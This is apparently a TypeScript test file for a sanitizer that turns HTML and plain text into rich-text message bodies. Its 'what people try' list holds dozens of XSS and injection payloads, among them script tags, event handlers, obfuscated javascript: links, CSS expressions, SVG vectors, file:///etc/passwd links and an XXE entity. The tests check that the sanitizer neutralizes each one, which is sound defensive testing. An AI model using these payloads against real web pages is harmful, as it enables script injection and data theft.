import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { RichText } from '../../../shared/model/conversation.ts';
import { richFromHtml } from './html.ts';
import { richFromPlain } from './plain.ts';

/** The text alone, a line for each paragraph. */
const words = (body: RichText) => body.map((runs) => runs.map(({ text }) => text).join('')).join('\n');
const links = (body: RichText) => body.flat().flatMap(({ link }) => link ?? []);

const allowedKeys = new Set(['text', 'bold', 'italic', 'underline', 'strike', 'colour', 'size', 'link']);

/** Why a body is not what a window may be given; empty when it is. */
function faultsOf(body: RichText): string[] {
  return body
    .flat()
    .flatMap((run) => [
      ...Object.keys(run).flatMap((key) => (allowedKeys.has(key) ? [] : `key ${key}`)),
      ...(typeof run.text === 'string' && !/[\r\n]/.test(run.text) ? [] : ['text']),
      ...(run.colour === undefined || /^#[0-9a-f]{6}$/.test(run.colour) ? [] : [`colour ${run.colour}`]),
      ...(run.size === undefined || (run.size >= 6 && run.size <= 36) ? [] : [`size ${run.size}`]),
      ...(run.link === undefined || /^(?:https?:\/\/[^/@]+(?:\/|$|\?|#)|(?:mailto|sips?|tel):\S)/.test(run.link)
        ? []
        : [`link ${run.link}`]),
    ]);
}

describe('what people write', () => {
  it.each([
    ['<div><b>Lunch</b> at <i>twelve</i>?</div>', 'Lunch at twelve?'],
    ['<p>One</p><p>Two</p>', 'One\nTwo'],
    ['One<br>Two<br/><br>Four', 'One\nTwo\n\nFour'],
    ['  much\n\t  white   space  ', 'much white space'],
    ['<ul><li>milk</li><li>bread</li></ul>', '• milk\n• bread'],
    ['<table><tr><td>a</td><td>b</td></tr><tr><td>c</td></tr></table>', 'a b\nc'],
    ['<pre>if (a)\n  b();</pre>', 'if (a)\n  b();'],
    ['1 &lt; 2 &amp;&amp; 3 &gt; 2 &euro; &#x1F600;', '1 < 2 && 3 > 2 € 😀'],
    ['see <img src="https://example.com/cat.png" alt="a cat">', 'see a cat'],
    ['<img src="cid:1">', ''],
    ['plain words without markup', 'plain words without markup'],
    ['a &nbsp; b', 'a \u00a0 b'],
    ['', ''],
  ])('reads %s', (html, text) => {
    expect(words(richFromHtml(html).body)).toBe(text);
  });

  it('keeps the looks that clients send, and inherits them', () => {
    const html =
      '<span style="font-family:Segoe UI;color:#FF0000;font-size:14pt"><strong>A</strong><u>B<s>C</s></u></span>D';
    expect(richFromHtml(html).body).toEqual([
      [
        { text: 'A', bold: true, colour: '#ff0000', size: 14 },
        { text: 'B', underline: true, colour: '#ff0000', size: 14 },
        { text: 'C', underline: true, strike: true, colour: '#ff0000', size: 14 },
        { text: 'D' },
      ],
    ]);
    expect(richFromHtml('<font color="blue" size="5" face="x">E</font>').body).toEqual([
      [{ text: 'E', colour: '#0000ff', size: 18 }],
    ]);
  });

  it('leaves black and the usual size to the window, whose background may be dark', () => {
    expect(richFromHtml('<span style="color:#000000;font-size:10pt">text</span>').body).toEqual([[{ text: 'text' }]]);
    const red = '<font color="red">a<span style="color:black">b</span></font>';
    expect(richFromHtml(red).body).toEqual([[{ text: 'a', colour: '#ff0000' }, { text: 'b' }]]);
  });

  it('finds an address whole that is written with entities', () => {
    const { body } = richFromHtml(
      '<p>see https://a.example/x?b=1&amp;c=2&#38;d=3, <b>or https://b.example/?e&amp;f</b></p>',
    );
    expect(links(body)).toEqual(['https://a.example/x?b=1&c=2&d=3', 'https://b.example/?e&f']);
  });

  it('finds links, said and unsaid', () => {
    const { body } = richFromHtml('<a href="https://contoso.com/a?b=c#d">the page</a>, or http://fabrikam.com/x.');
    expect(body).toEqual([
      [
        { text: 'the page', link: 'https://contoso.com/a?b=c#d' },
        { text: ', or ' },
        { text: 'http://fabrikam.com/x', link: 'http://fabrikam.com/x' },
        { text: '.' },
      ],
    ]);
    const kinds = ['mailto:a@b.example', 'sip:karen@contoso.com', 'sips:karen@contoso.com', 'tel:+4412345'];
    expect(kinds.flatMap((href) => links(richFromHtml(`<a href="${href}">x</a>`).body))).toEqual(kinds);
  });

  it('takes a bracket that the address opened, and no other', () => {
    const { body } = richFromPlain('(see https://a.example/x_(y) and https://b.example/z)');
    expect(links(body)).toEqual(['https://a.example/x_(y)', 'https://b.example/z']);
  });
});

/** Ways to make a page run something, fetch something or lead somewhere it does not say: each family once or more, in our own words. */
const tricks: readonly (readonly [what: string, html: string])[] = [
  ['a script', '<script>steal()</script>'],
  ['a script from elsewhere', '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>'],
  ['a script in pieces', '<scr<script>ipt>steal()</scr</script>ipt>'],
  ['a script that never ends', '<script>steal()'],
  ['a script without its bracket', '<script src=//evil.example/x.js <b>'],
  ['a script after a slash', '<script/x src="https://evil.example"></script>'],
  ['a script behind quotes', '<img """><script>steal()</script>">'],
  ['a script in a comment', '<!--<script>steal()</script>-->'],
  ['a conditional comment', '<!--[if gte IE 4]><script>steal()</script><![endif]-->'],
  ['a script in CDATA', '<![CDATA[<script>steal()</script>]]>'],
  ['a script ended by a title', '<title></title><script>steal()</script>'],
  ['a script out of a textarea', '<textarea></textarea><script>steal()</script>'],
  ['an image that fails', '<img src=x onerror=steal()>'],
  ['an image that fails, slashes for blanks', '<img/src="x"/onerror=steal()>'],
  ['an image with a quoted bracket', '<img src="a>b" onerror="steal()">'],
  ['a handler after a line feed', '<img src=x\nonerror\n=\nsteal()>'],
  ['a handler with a null', '<img src=x on\u0000error=steal()>'],
  ['a body that loads', '<body onload=steal()>'],
  ['a details that toggles', '<details open ontoggle=steal()>x</details>'],
  ['a focus', '<input autofocus onfocus=steal()>'],
  ['an animation', '<div style="animation-name:x" onanimationstart=steal()>x</div>'],
  ['a mouse', '<b onmouseover="steal()">bold</b>'],
  ['a javascript link', '<a href="javascript:steal()">x</a>'],
  ['a javascript link in capitals', '<a href="JaVaScRiPt:steal()">x</a>'],
  ['a javascript link with a tab inside', '<a href="jav\tascript:steal()">x</a>'],
  ['a javascript link with an encoded tab', '<a href="jav&#x09;ascript:steal()">x</a>'],
  ['a javascript link with encoded letters', '<a href="&#106;&#97;vascript&colon;steal()">x</a>'],
  ['a javascript link with unended entities', '<a href="&#0000106avascript:steal()">x</a>'],
  ['a javascript link after a control character', '<a href=" &#14; javascript:steal()">x</a>'],
  ['a javascript link with a null inside', '<a href="java\u0000script:steal()">x</a>'],
  ['a vbscript link', '<a href="vbscript:steal">x</a>'],
  ['a data link', '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>'],
  ['a file link', '<a href="file:///etc/passwd">x</a>'],
  ['a link to a share', '<a href="\\\\evil.example\\share">x</a>'],
  ['a link without scheme', '<a href="//evil.example">x</a>'],
  ['a link to a desktop handler', '<a href="ms-msdt:/id x">x</a>'],
  ['a blob link', '<a href="blob:https://contoso.com/1">x</a>'],
  ['a view-source link', '<a href="view-source:https://contoso.com">x</a>'],
  ['a link with a name that pretends', '<a href="https://contoso.com@evil.example/">x</a>'],
  ['a link turned around', '<a href="https://evil.example/\u202emoc.osotnoc">x</a>'],
  ['a base', '<base href="javascript:steal()//"><a href="x">x</a>'],
  ['a refresh', '<meta http-equiv="refresh" content="0;url=javascript:steal()">'],
  ['a cookie by meta', '<meta http-equiv="Set-Cookie" content="a=b">'],
  ['a sheet', '<link rel="stylesheet" href="https://evil.example/x.css">'],
  ['a style element', '<style>@import "https://evil.example/x.css"; b{background:url(javascript:steal())}</style>'],
  ['a background', '<div style="background-image:url(https://evil.example/x.png)">x</div>'],
  ['a background in escapes', '<div style="background-image:\\0075\\0072\\006C(\'javascript:steal()\')">x</div>'],
  ['an expression', '<b style="width:expression(steal())">x</b>'],
  ['an expression with comments', '<b style="width:exp/**/ression(steal())">x</b>'],
  ['a behaviour', '<b style="behavior:url(x.htc);-moz-binding:url(https://evil.example/x.xml)">x</b>'],
  ['a colour that is none', '<font color="red;background:url(https://evil.example)">x</font>'],
  ['a frame', '<iframe src="javascript:steal()"></iframe>'],
  ['a frame with its own page', '<iframe srcdoc="<script>steal()</script>"></iframe>'],
  ['a frameset', '<frameset><frame src="javascript:steal()"></frameset>'],
  ['an object', '<object data="data:text/html;base64,PHNjcmlwdD4="></object>'],
  ['an embed', '<embed src="https://evil.example/x.swf" allowscriptaccess="always">'],
  ['an applet', '<applet code="x.class">steal()</applet>'],
  ['an image in SVG', '<svg onload=steal()><image href="https://evil.example/x.png"/></svg>'],
  ['a script in SVG', '<svg><script>steal()</script></svg>'],
  ['a link in SVG', '<svg><a xlink:href="javascript:steal()"><text>steal()</text></a></svg>'],
  ['an animated link in SVG', '<svg><a><animate attributeName=href values=javascript:steal() /></a></svg>'],
  ['a use in SVG', '<svg><use href="data:image/svg+xml,x#y"></use></svg>'],
  ['a link in MathML', '<math><a xlink:href="javascript:steal()">steal()</a></math>'],
  ['a video', '<video src=x onerror=steal()><source onerror=steal()>steal()</video>'],
  ['an image map', '<map name=x><area href="javascript:steal()">steal()</map>'],
  ['a form', '<form action="javascript:steal()"><button formaction="javascript:steal()">x</button></form>'],
  ['an input that is an image', '<input type="image" src="javascript:steal()">'],
  ['a table background', '<table background="javascript:steal()"><td background="javascript:steal()">x</table>'],
  ['a data island', '<xml id=i><x><c><![CDATA[<img src="javas]]><![CDATA[cript:steal()">]]></c></x></xml>'],
  ['a template', '<template><script>steal()</script></template>'],
  ['a noscript', '<noscript><p title="</noscript><img src=x onerror=steal()>">'],
  ['mutation by a listing', '<listing>&lt;img src=x onerror=alert&gt;</listing>'],
  ['mutation by backquotes', '<img src="x` `<script>steal()</script>"` `>'],
  ['old charsets', '+ADw-script+AD4-alert()+ADw-/script+AD4-'],
  ['angle brackets of other widths', '＜script＞alert()＜/script＞'],
  ['a processing instruction', '<?xml-stylesheet href="javascript:steal()"?><?php steal() ?>'],
  ['a document type', '<!DOCTYPE html [<!ENTITY x SYSTEM "file:///etc/passwd">]>&x;'],
  ['the style of an alt', '<img alt="<script>x</script>" src=x onerror=steal()>'],
];

describe('what people try', () => {
  it.each(tricks)('makes %s harmless', (_what, html) => {
    const { body } = richFromHtml(`before ${html}`);
    expect(faultsOf(body)).toEqual([]);
    expect(links(body).filter((link) => !/^https:\/\/(?:contoso\.com|evil\.example\/(?:x|$))/.test(link))).toEqual([]);
    expect(words(body)).toMatch(/^before/);
  });

  it('shows no words of what is not text', () => {
    const silent = tricks.filter(([, html]) =>
      /<(?:script|style|svg|math|object|applet|video|template|xml)\b/i.test(html),
    );
    const shown = silent.map(([what, html]) => [what, words(richFromHtml(html).body)] as const);
    // What a parser takes for words stays words: shown, and never markup again.
    const asWords = ['a script in pieces', 'a script behind quotes', 'a script in a comment', 'a script in CDATA'];
    const others = ['mutation by backquotes', 'the style of an alt', 'a data island', 'a script ended by a title'];
    const kept = shown.filter(([what, text]) => text.includes('steal') && ![...asWords, ...others].includes(what));
    expect(kept).toEqual([]);
  });

  it('gives only what is allowed, whatever comes', () => {
    const atom = fc.constantFrom(
      ...tricks.map(([, html]) => html),
      '<b>',
      '</b>',
      '<a href="',
      '">',
      '<!--',
      '&#',
      '<',
      '>',
      '"',
      '\u0000',
    );
    const soup = fc.array(fc.oneof(atom, fc.string({ unit: 'binary', maxLength: 20 })), { maxLength: 30 });
    fc.assert(
      fc.property(soup, (pieces) => {
        const { body } = richFromHtml(pieces.join(''));
        return faultsOf(body).length === 0;
      }),
    );
    fc.assert(fc.property(fc.string({ unit: 'binary' }), (text) => faultsOf(richFromPlain(text).body).length === 0));
  });

  it('ends early at a depth, a length and a number that no message has', () => {
    const deep = richFromHtml(`start ${'<b>'.repeat(100_000)}deep${'</b>'.repeat(100_000)}`);
    expect([words(deep.body), deep.isCut]).toEqual(['start', true]);
    const quadratic = richFromHtml('<b>'.repeat(60_000) + '</i>'.repeat(60_000));
    expect(quadratic.isCut).toBe(true);
    const long = richFromHtml('word '.repeat(200_000));
    expect([words(long.body).length, long.isCut]).toEqual([65_536, true]);
    const many = richFromHtml('<p>x</p>'.repeat(60_000));
    expect([many.body.length, many.isCut]).toEqual([2000, true]);
    const plain = richFromPlain('x\n'.repeat(500_000));
    expect([plain.body.length, plain.isCut]).toEqual([2000, true]);
    const addresses = richFromPlain('http://a'.repeat(100_000));
    expect(addresses.isCut).toBe(true);
  });

  it('turns nothing around', () => {
    expect(words(richFromHtml('gpj.\u202eexe&#x202e;x\u2066y').body)).toBe('gpj.exexy');
  });
});
